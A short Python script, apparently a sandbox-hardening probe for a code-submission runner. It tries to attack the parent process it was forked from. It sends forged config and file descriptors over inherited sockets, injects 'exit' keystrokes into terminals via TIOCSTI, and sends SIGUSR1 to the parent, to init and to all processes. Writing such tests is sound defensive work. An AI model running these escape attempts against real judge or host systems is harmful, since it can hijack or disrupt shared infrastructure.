# attempts = "attacks the process from which all submissions are forked: signals, files, terminal, orders"
# never = 'typed'

# %%
import os, signal, socket, stat, fcntl, termios
for fd in range(3, 256):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISSOCK(mode):
        s = socket.socket(fileno=os.dup(fd))
        try:
            socket.send_fds(s, [b'{"lang": "en", "limits": {}}'], [0, 1])
        except OSError:
            pass
        s.detach()
# %%
import fcntl, os, signal, termios
for fd in range(0, 256):
    for byte in b"exit\n":
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
            print("typed")
        except OSError:
            pass
for number in (os.getppid(), 1, -1):
    try:
        os.kill(number, signal.SIGUSR1)
    except OSError:
        pass
